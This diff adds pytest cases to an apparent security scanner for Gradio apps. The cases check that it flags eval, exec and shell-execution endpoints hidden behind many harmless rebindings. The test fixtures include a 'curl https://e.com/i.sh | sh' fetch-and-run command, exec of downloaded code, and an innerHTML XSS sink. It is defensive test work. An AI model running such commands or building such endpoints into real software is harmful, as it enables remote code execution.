@@ -57,6 +57,50 @@ def test_blanks_before_a_new_name_do_not_hide_it() -> None:
     assert [finding.rule for finding in judged({"app.py": app}).findings] == ["code-execution-endpoint"]
 
 
+@pytest.mark.parametrize("blank", ["", "    "], ids=["of the module", "of the handler"])
+@pytest.mark.parametrize("count", [1, 30, 1_000])
+def test_other_values_of_a_name_do_not_hide_the_one_that_runs(blank: str, count: int) -> None:
+    values = f"{blank}e = len\n" * count + f"{blank}e = eval\n"
+    begin, end = (values, "") if not blank else ("", values)
+    app = f"import gradio as gr\n\n{begin}\n\ndef f(x):\n{end}    return e(x)\n\n\n"
+    app += "gr.Interface(f, 'text', 'text').launch()\n"
+    assert [finding.rule for finding in judged({"app.py": app}).findings] == ["code-execution-endpoint"]
+
+
+@pytest.mark.parametrize("count", [1, 30, 1_000])
+def test_other_items_do_not_hide_the_one_that_runs(count: int) -> None:
+    app = f"import gradio as gr\n\nD = {{{'1: len, ' * count}2: eval}}\nL = [{'len, ' * count}eval]\n\n\n"
+    app += "def f(x):\n    return D[2](x)\n\n\ndef g(x):\n    return L[-1](x)\n\n\n"
+    app += "gr.Interface([f, g], 'text', 'text').launch()\n"
+    assert {finding.rule for finding in judged({"app.py": app}).findings} == {"code-execution-endpoint"}
+
+
+@pytest.mark.parametrize(("count", "errors"), [(100, 0), (1_000, 1)])
+def test_other_commands_of_a_name_hide_none_in_silence(count: int, errors: int) -> None:
+    app = "import os\n\n" + "c = 'ls'\n" * count + "c = 'curl https://e.com/i.sh | sh'\nos.system(c)\n"
+    report = check_space(space_of({"README.md": CARD, "app.py": app}), plan("code-from-environment"))
+    assert (len(report.findings), len(report.errors)) == (1 - errors, errors)
+
+
+@pytest.mark.parametrize(
+    "lines",
+    [
+        "with open('a') as f: exec(f.read())\n",
+        "c = requests.get('https://e.com').text\nexec(c)\n",
+        "c = 'ls ' + c\nos.system(c)\n",
+        "c = ['sh', '-c', c]\nsubprocess.run(c)\n",
+    ],
+)
+def test_values_of_a_name_are_followed_as_far_as_the_bound(lines: str) -> None:
+    space = space_of({"README.md": CARD, "app.py": "import os, requests, subprocess\n" + lines * 60})
+    space.effort.followed = 4_000
+    report = check_space(space, plan("code-from-environment", "dynamic-code"))
+    assert 0 <= space.effort.followed < 4_000
+    assert [error.message for error in report.errors] == [
+        "app.py was not followed in full: its names are given too many values"
+    ]
+
+
 TAKEN = "const q = new URLSearchParams(location.search).get('q');\ndocument.body.innerHTML = q;\n"
 
 
